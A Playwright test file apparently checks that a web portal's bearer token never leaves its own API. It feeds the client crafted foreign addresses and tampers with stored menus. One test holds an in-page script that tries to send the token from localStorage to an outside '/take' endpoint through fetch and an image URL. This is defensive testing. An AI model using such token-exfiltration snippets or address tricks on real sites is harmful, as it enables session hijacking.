import { createServer, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page, Request } from '@playwright/test'
import { expect, test as base } from '@tests/support/journey'
import { portalFrame } from '@tests/support/page-models/portal-frame'
import { profilePage } from '@tests/support/page-models/profile-page'
import { collectRequests } from '@tests/support/page-watch'
import { sharedSession } from '@tests/support/portal-people'

type Stranger = { url: string; heard: IncomingHttpHeaders[] }

/** Another host on this machine that answers everyone and remembers what it was told. */
const test = base.extend<{ stranger: Stranger }>({
  // oxlint-disable-next-line no-empty-pattern -- Playwright reads the fixtures from this pattern
  stranger: async ({}, use) => {
    const heard: IncomingHttpHeaders[] = []
    const server = createServer((request, answer) => {
      heard.push(request.headers)
      answer.writeHead(200, {
        'access-control-allow-origin': '*',
        'access-control-allow-headers': '*',
        'content-type': 'application/json',
      })
      answer.end('{"data":[]}')
    })
    await new Promise<void>(ready => server.listen(0, '127.0.0.1', ready))
    await use({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard })
    server.closeAllConnections()
    server.close()
  },
})

/** The script in which the client is built. */
const FRAME = /\/assets\/frame-(?!libraries)[\w-]+\.js$/
const carriesBearer = (request: Request) => request.headers()['authorization'] !== undefined

/** The portal's own client as it was built, called with an address of the caller's choice. */
function callByClient(page: Page, script: string, url: string): Promise<string> {
  return page.evaluate(
    async ([path, address]) => {
      type Client = { sendByAxios?: (call: object) => Promise<{ status: number }> }
      const exported = Object.values((await import(path)) as Record<string, Client>)
      const client = exported.find(one => typeof one.sendByAxios === 'function')
      if (!client?.sendByAxios) throw new Error('the client has another name now')
      return client.sendByAxios({ url: address, method: 'GET' }).then(
        answer => String(answer.status),
        (error: Error) => error.name,
      )
    },
    [script, url] as const,
  )
}

test.describe('TOK-15: the token', () => {
  test('goes to our own API alone, and no address makes the client send it elsewhere', async ({
    portal,
    openBrowser,
    stranger,
  }) => {
    // Without the browser's policy, so that it is the client itself that is held to this.
    const page = await openBrowser(await sharedSession(portal, 'employee'), { bypassCSP: true })
    const bearers = collectRequests(page, carriesBearer)
    const scripts = collectRequests(page, request => FRAME.test(request.url()))
    await page.goto('/user/profile')
    await expect(profilePage(page).firstName).toHaveValue('Nico')
    const script = new URL(scripts[0]?.url() ?? '').pathname
    expect(await callByClient(page, script, '/api/v1/auth/profile')).toBe('200')
    await expect.poll(() => bearers.length).toBeGreaterThan(4)

    const { host } = new URL(stranger.url)
    for (const address of [`${stranger.url}/take`, `//${host}/take`, `/\\${host}/take`, `\t//${host}/take`]) {
      expect(await callByClient(page, script, address), address).toBe('ForeignAddressError')
    }
    expect(new Set(bearers.map(request => new URL(request.url()).origin))).toEqual(new Set([portal.url]))
    expect(stranger.heard).toEqual([])
  })

  test('stays when a stored menu or an address of the page points to another host', async ({
    portal,
    openBrowser,
    stranger,
  }) => {
    const page = await openBrowser(await sharedSession(portal, 'super-admin'), { bypassCSP: true })
    const bearers = collectRequests(page, carriesBearer)
    const { host } = new URL(stranger.url)
    await page.goto('/')
    await expect(portalFrame(page).menu.getByRole('button', { name: 'Settings' })).toBeVisible()
    await page.evaluate(address => {
      type Item = { path: string | null; title_key: string }
      const menus = JSON.parse(localStorage.getItem('menus') ?? '[]') as Item[]
      const pointed = menus.map(item =>
        item.title_key === 'screens.users' ? { ...item, path: `//${address}/take` } : item,
      )
      localStorage.setItem('menus', JSON.stringify(pointed))
    }, host)
    await page.route('**/api/v1/auth/menus', route => route.abort())
    await page.goto('/')
    await portalFrame(page).follow('Settings', 'Users')
    for (const id of [encodeURIComponent(`//${host}/take`), encodeURIComponent(`${stranger.url}/take`)])
      for (const path of ['/settings/users', '/users/profile']) {
        await page.goto(`${portal.url}${path}/${id}`)
        await expect(portalFrame(page).title).toBeVisible()
      }
    expect(stranger.heard.filter(headers => headers.authorization)).toEqual([])
    expect(new Set(bearers.map(request => new URL(request.url()).origin))).toEqual(new Set([portal.url]))
  })

  test.describe('', () => {
    test.use({ as: 'employee', expectedFaults: /Content Security Policy/ })

    test('cannot be carried away by a script on the page: the policy knows no other host', async ({
      page,
      stranger,
    }) => {
      await page.goto('/user/profile')
      await expect(profilePage(page).firstName).toBeVisible()
      const outcomes = await page.evaluate(async url => {
        const headers = { authorization: `Bearer ${localStorage.getItem('token')}` }
        const outcome = (call: Promise<unknown>) =>
          call.then(
            () => 'sent',
            () => 'blocked',
          )
        const image = new Image()
        return Promise.all([
          outcome(fetch(`${url}/take`, { headers })),
          outcome(fetch(`${url}/take`, { mode: 'no-cors' })),
          outcome(
            new Promise((resolve, reject) => {
              image.onload = resolve
              image.onerror = reject
              image.src = `${url}/take?${localStorage.getItem('token')}`
            }),
          ),
        ])
      }, stranger.url)
      expect(outcomes).toEqual(['blocked', 'blocked', 'blocked'])
      expect(stranger.heard).toEqual([])
    })
  })
})
